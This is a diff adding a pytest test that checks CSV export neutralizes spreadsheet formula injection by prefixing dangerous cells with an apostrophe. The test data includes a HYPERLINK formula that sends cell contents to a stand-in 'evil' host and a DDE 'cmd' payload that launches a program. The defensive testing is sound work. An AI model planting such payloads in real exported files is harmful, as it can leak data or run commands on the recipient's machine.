@@ -92,3 +92,21 @@ def test_a_job_that_was_stopped_and_resumed_writes_the_table_of_one_that_was_not
 def test_a_name_of_another_format_is_refused(tmp_path: Path, name: str) -> None:
     with pytest.raises(OutputRefused, match=r"\.jsonl, \.csv or \.parquet"):
         claim_output(tmp_path / name, tmp_path / "in.jsonl")
+
+
+@pytest.mark.parametrize(("text", "safe"), [
+    ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\uff1d1", "'\uff1d1"), ("\r\n=1", "'\r\n=1"),
+    ("-2.5", "-2.5"), ("+49", "+49"), ("-1e5", "-1e5"), ("a=b", "a=b"), ("", ""), ("'=1", "'=1"),
+])  # fmt: skip
+def test_no_cell_of_a_table_of_documents_is_a_formula(text: str, safe: str) -> None:
+    lines = [{"id": text, "text": text, "finish_reason": "stop", "usage": USAGE, text or "label": [text]}]
+    tables = []
+    for formulas in (False, True):
+        sink = io.BytesIO()
+        write_table(".csv", lambda: map(json.dumps, lines), None, sink, formulas=formulas)
+        tables.append(list(csv.reader(io.StringIO(sink.getvalue().decode(), newline=""))))
+    (header, (name, found, *_)), (_, (_, kept, *_)) = tables
+    assert (name, found, kept) == (safe, safe, text)
+    assert header[-1] == (safe or "label")
